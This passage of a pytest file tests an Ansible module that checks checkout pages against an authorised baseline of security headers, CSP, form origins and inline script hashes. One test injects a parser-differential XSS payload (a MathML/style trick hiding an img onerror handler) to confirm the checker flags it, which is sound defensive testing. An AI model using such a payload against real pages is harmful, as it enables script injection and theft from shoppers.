        "is not https://, which is required": {"pages": [{"url": "http://shop.example/"}]},
        "must not have user information": {"pages": [{"url": "https://u:p@shop.example/"}]},
        "is already the page of pages[0]": {"pages": [{"url": url}, {"url": url}]},
        "did you mean 'x-frame-options'": {"baseline": [{**entry, "headers": {"x-frame-option": "DENY"}}]},
        "has the directive 'script-src' twice": {
            "baseline": [{**entry, "headers": {"content-security-policy": "script-src a; script-src b"}}]
        },
        "is already the name of baseline[0]": {"baseline": [entry, entry]},
        "fit 'http://127.0.0.1": {"baseline": [entry, {**entry, "name": "b"}]},
        "is not an origin": {"baseline": [{**entry, "forms": ["https://pay.example/x"]}]},
        "is neither sha256- nor shape-": {"baseline": [{**entry, "inline": ["abc"]}]},
        "'fetches': 6|fetches: 6": {"fetches": 6},
        "expected_head: needs evidence_dir": {"expected_head": "f" * 64, "evidence_dir": ""},
    }
    tasks = [{**task(url, **options), "name": text, "ignore_errors": True} for text, options in refused.items()]
    report = modules.run(tasks, fails="invalid_option")
    for outcome in report.ours:
        assert any(text in outcome.result["msg"] for text in outcome.name.split("|")), outcome.result["msg"]
    assert site.requests == [] and len(report.failures) == len(refused)


def test_missing_parser_is_named(modules: Modules, site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(
        "ansible_collections.edgeops.observability.plugins.module_utils._pages.tree._PROBLEM", "No module named 'justhtml'"
    )
    failed = modules.run(task(site.put("/checkout", CHECKOUT)), fails="invalid_option").result
    assert "justhtml is required" in failed["msg"] and site.requests == []


def test_what_readers_may_disagree_about_is_not_green(modules: Modules, site: Site) -> None:
    """Code after a style within MathML is an element for one reader and text for another; a picture in SVG is none of that."""
    hidden = "<math><mtext><style><!--</style><img src=x: onerror=steal()>--></math>"
    url = site.put("/checkout", CHECKOUT + "<svg viewBox='0 0 1 1'><title>Pay</title><path d=M0/></svg>")
    baseline = authorised(modules, url)
    assert modules.run(task(url, baseline=baseline)).result["passed"]
    site.put("/checkout", CHECKOUT + hidden)
    result = modules.run(task(url, baseline=baseline)).result
    assert not result["passed"] and {kind for kind, _subject in kinds(result)} & {"page_unread", "inline_new"}


def test_equal_documents_are_parsed_once(modules: Modules, site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    """The headers of each answer differ, such as its date."""
    module = "ansible_collections.edgeops.observability.plugins.module_utils._pages.received"
    original = importlib.import_module(module).read_document
    parsed: list[str] = []
    monkeypatch.setattr(f"{module}.read_document", lambda text, address: parsed.append(text) or original(text, address))
    numbers = iter(range(10))
    site.pages["/checkout"] = lambda: Page(CHECKOUT.encode(), (("X-Request", str(next(numbers))),))
    modules.run(task(site.url("/checkout"), fetches=3))
    assert len(parsed) == 1
    site.pages["/checkout"] = lambda: Page((CHECKOUT + f"<p>{next(numbers)}").encode())
    modules.run(task(site.url("/checkout"), fetches=3))
    assert len(parsed) == 4
